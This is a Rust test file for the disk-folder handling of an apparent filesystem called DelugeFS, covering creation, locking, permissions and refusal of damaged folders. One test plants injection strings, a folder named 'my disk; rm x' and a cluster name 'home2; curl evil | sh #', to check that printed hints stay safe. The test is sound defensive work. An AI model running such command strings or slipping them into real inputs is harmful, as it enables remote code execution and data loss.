use super::*;
use std::fs;
use std::os::unix::fs::PermissionsExt;

fn exit_of(result: anyhow::Result<DiskFolder>) -> Exit {
    let error = result.err().expect("a refusal");
    let user = error.downcast_ref::<UserError>().unwrap_or_else(|| panic!("no user error: {error:?}"));
    assert!(user.hint.is_some(), "no hint: {user}");
    user.exit
}

/// Everything in a folder, to see that a refusal touches nothing.
fn picture(root: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut all = Vec::new();
    let mut todo = vec![root.to_owned()];
    while let Some(dir) = todo.pop() {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let kind = path.symlink_metadata().unwrap().file_type();
            if kind.is_dir() {
                todo.push(path.clone());
            }
            all.push((path.clone(), if kind.is_file() { fs::read(&path).unwrap() } else { Vec::new() }));
        }
    }
    all.sort();
    all
}

#[test]
fn made_and_opened_again() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("disk");
    let mut filled = false;
    let made = DiskFolder::create_with(&root, "home", None, |path| {
        filled = path.join(disk::CATALOG).is_dir() && !path.join(DISK_TOML).exists();
        Ok(())
    });
    let identity = made.unwrap().identity().clone();
    assert!(filled);
    assert_eq!(fs::metadata(&root).unwrap().permissions().mode() & 0o7777, 0o700);
    assert_eq!(fs::metadata(root.join(disk::NODE_KEY)).unwrap().permissions().mode() & 0o7777, 0o600);
    assert!(fs::read_to_string(root.join(disk::README)).unwrap().contains("without DelugeFS"));
    assert!(!root.join("disk.toml.new").exists());

    let folder = DiskFolder::open(&root, Some("home")).unwrap();
    assert_eq!(folder.identity(), &identity);
    assert_eq!(folder.key().public_key().as_ref(), folder.disk_id().0);
    assert_eq!(DiskToml::read(folder.root()).unwrap(), identity);
    assert!(folder.open_file(disk::JOURNAL, OFlag::O_RDONLY).is_err());
    let before = picture(&root);
    let error = DiskFolder::open(&root, None).err().unwrap();
    assert!(error.to_string().contains(&format!("process {}", std::process::id())), "{error}");
    assert_eq!(exit_of(Err(error)), Exit::InUse);
    assert_eq!(exit_of(DiskFolder::create(&root, "home", None)), Exit::NotEmpty);
    assert_eq!(picture(&root), before);
    drop(folder);
    DiskFolder::open(&root, None).unwrap();
}

#[test]
fn a_second_disk_joins_a_cluster_by_its_id() {
    let dir = tempfile::tempdir().unwrap();
    let first = DiskFolder::create(&dir.path().join("a"), "home", None).unwrap();
    let second = DiskFolder::create(&dir.path().join("b"), "home", Some(first.cluster_id())).unwrap();
    assert_eq!(first.cluster_id(), second.cluster_id());
    assert_ne!(first.disk_id(), second.disk_id());
}

/// A disk may come from anybody, and its folder may be called anything.
#[test]
fn what_is_to_be_typed_is_safe_to_type() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("my disk; rm x");
    DiskFolder::create(&root, "home", None).unwrap();
    let hint_of = |result: anyhow::Result<DiskFolder>| {
        let error = result.err().expect("refused").downcast::<UserError>().expect("for the user");
        (error.exit, error.hint.expect("a hint"))
    };
    let typed = format!("'{}'", root.display());
    let (exit, hint) = hint_of(DiskFolder::open(&root, Some("work")));
    assert_eq!((exit, hint), (Exit::WrongCluster, format!("to use it: delugefs run home {typed}")));
    let toml = fs::read_to_string(root.join(DISK_TOML)).unwrap();
    fs::write(root.join(DISK_TOML), toml.replace("home", "home2; curl evil | sh #")).unwrap();
    for expected in [None, Some("home")] {
        let (exit, hint) = hint_of(DiskFolder::open(&root, expected));
        assert!(exit == Exit::BadDisk && !hint.contains("curl"), "{hint}");
    }
    fs::write(root.join(DISK_TOML), toml).unwrap();
    fs::remove_dir_all(root.join(disk::DATA)).unwrap();
    fs::write(root.join(disk::DATA), "").unwrap();
    assert!(hint_of(DiskFolder::open(&root, None)).1.contains(&format!("ls -l {typed};")));
}

#[test]
fn refusals_say_why_and_touch_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("disk");
    assert_eq!(exit_of(DiskFolder::open(&root, None)), Exit::NoDisk);
    assert_eq!(exit_of(DiskFolder::open(dir.path(), None)), Exit::NoDisk);
    assert_eq!(exit_of(DiskFolder::create(&root.join("x/y"), "home", None)), Exit::NoDisk);
    assert_eq!(exit_of(DiskFolder::create(&root, "-x", None)), Exit::Usage);
    DiskFolder::create(&root, "home", None).unwrap();
    assert_eq!(exit_of(DiskFolder::open(&root, Some("work"))), Exit::WrongCluster);

    let toml = fs::read_to_string(root.join(DISK_TOML)).unwrap();
    let other = DiskFolder::create(&dir.path().join("other"), "home", None).unwrap();
    let other_key = fs::read(other.path(disk::NODE_KEY)).unwrap();
    let key = fs::read(root.join(disk::NODE_KEY)).unwrap();
    let cases: [(&str, &[u8], Exit); 5] = [
        (DISK_TOML, b"format = 2\nmore = 1\n", Exit::NewerFormat),
        (DISK_TOML, b"format = 1\n", Exit::BadDisk),
        (DISK_TOML, b"\xff\xfe", Exit::BadDisk),
        (disk::NODE_KEY, &other_key, Exit::BadDisk),
        (disk::NODE_KEY, b"", Exit::BadDisk),
    ];
    for (name, bytes, exit) in cases {
        fs::write(root.join(name), bytes).unwrap();
        let before = picture(&root);
        assert_eq!(exit_of(DiskFolder::open(&root, Some("home"))), exit, "{name} {bytes:?}");
        assert_eq!(picture(&root), before);
        fs::write(root.join(DISK_TOML), &toml).unwrap();
        fs::write(root.join(disk::NODE_KEY), &key).unwrap();
    }
    for name in [DISK_TOML, disk::NODE_KEY, disk::LOCK, disk::DATA, disk::STAGING] {
        let moved = dir.path().join("moved");
        fs::rename(root.join(name), &moved).unwrap();
        std::os::unix::fs::symlink(&moved, root.join(name)).unwrap();
        assert_eq!(exit_of(DiskFolder::open(&root, Some("home"))), Exit::BadDisk, "symbolic link {name}");
        fs::remove_file(root.join(name)).unwrap();
        fs::rename(&moved, root.join(name)).unwrap();
    }
    fs::remove_dir(root.join(disk::STAGING)).unwrap();
    DiskFolder::open(&root, Some("home")).unwrap();
    fs::remove_dir(root.join(disk::DATA)).unwrap();
    assert_eq!(exit_of(DiskFolder::open(&root, Some("home"))), Exit::BadDisk);
}

#[test]
fn a_disk_inside_a_disk_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("d");
    let outer = DiskFolder::create(&root, "home", None).unwrap();
    std::fs::create_dir(root.join("catalog.git"))
        .or_else(|error| match error.kind() {
            std::io::ErrorKind::AlreadyExists => Ok(()),
            _ => Err(error),
        })
        .unwrap();
    for inner in ["inner", "data/inner"] {
        assert_eq!(exit_of(DiskFolder::create(&root.join(inner), "home", None)), Exit::NotEmpty);
        assert!(!root.join(inner).exists());
    }
    drop(outer);
}

#[test]
fn only_empty_folders_are_taken() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("disk");
    fs::create_dir(&root).unwrap();
    fs::write(root.join("holiday.jpg"), "x").unwrap();
    let before = picture(&root);
    assert_eq!(exit_of(DiskFolder::create(&root, "home", None)), Exit::NotEmpty);
    assert_eq!(picture(&root), before);
    fs::remove_file(root.join("holiday.jpg")).unwrap();
    fs::write(root.join(disk::README), "somebody else's").unwrap();
    assert_eq!(exit_of(DiskFolder::create(&root, "home", None)), Exit::NotEmpty);
    fs::remove_file(root.join(disk::README)).unwrap();
    fs::create_dir(root.join("lost+found")).unwrap();
    let made = DiskFolder::create(&root, "home", None);
    match nix::unistd::geteuid().is_root() {
        true => drop(made.unwrap()),
        false => assert_eq!(exit_of(made), Exit::NotEmpty),
    }
}

#[test]
fn an_interrupted_attempt_is_made_again_and_a_damaged_disk_is_not() {
    let dir = tempfile::tempdir().unwrap();
    let whole = dir.path().join("whole");
    DiskFolder::create(&whole, "home", None).unwrap();
    let root = dir.path().join("disk");
    let interrupt_after = |names: &[&str]| {
        let _ = fs::remove_dir_all(&root);
        fs::create_dir(&root).unwrap();
        for name in names {
            let from = whole.join(if *name == "disk.toml.new" { DISK_TOML } else { name });
            match from.is_dir() {
                true => fs::create_dir(root.join(name)).unwrap(),
                false => drop(fs::copy(&from, root.join(name)).unwrap()),
            }
        }
    };
    let order = ["lock", "README", "disk.toml.new", "node.key", "data", "incoming", "staging", "trash", "catalog.git"];
    for n in 0..=order.len() {
        interrupt_after(&order[..n]);
        if n == order.len() {
            fs::write(root.join(disk::CATALOG).join("HEAD"), "half").unwrap();
        }
        assert_eq!(exit_of(DiskFolder::open(&root, None)), Exit::NoDisk);
        let error = DiskFolder::open(&root, None).err().unwrap();
        let hint = error.downcast_ref::<UserError>().and_then(|user| user.hint.clone()).unwrap();
        assert_eq!(hint.contains("interrupted"), n >= 2, "{hint}");
        DiskFolder::create(&root, "home", None).unwrap_or_else(|error| panic!("after {n}: {error:?}"));
        assert!(fs::read_dir(root.join(disk::CATALOG)).unwrap().next().is_none());
    }
    fs::remove_file(root.join(DISK_TOML)).unwrap();
    assert_eq!(exit_of(DiskFolder::create(&root, "home", None)), Exit::NotEmpty);
    // Even with the mark of an unfinished attempt: files are never given up.
    interrupt_after(&order);
    fs::write(root.join(disk::STAGING).join("0000000000000123"), "x").unwrap();
    assert_eq!(exit_of(DiskFolder::create(&root, "home", None)), Exit::NotEmpty);
    let locked = File::open(whole.join(disk::LOCK)).unwrap();
    os::flock(&locked, FlockArg::LockExclusive).unwrap();
    assert_eq!(exit_of(DiskFolder::open(&whole, None)), Exit::InUse);
}

#[test]
fn a_folder_of_somebody_else_is_not_permitted() {
    if nix::unistd::geteuid().is_root() {
        return; // root may read everything
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("disk");
    DiskFolder::create(&root, "home", None).unwrap();
    fs::set_permissions(&root, fs::Permissions::from_mode(0o0)).unwrap();
    assert_eq!(exit_of(DiskFolder::open(&root, None)), Exit::NotPermitted);
    fs::set_permissions(&root, fs::Permissions::from_mode(0o700)).unwrap();
}
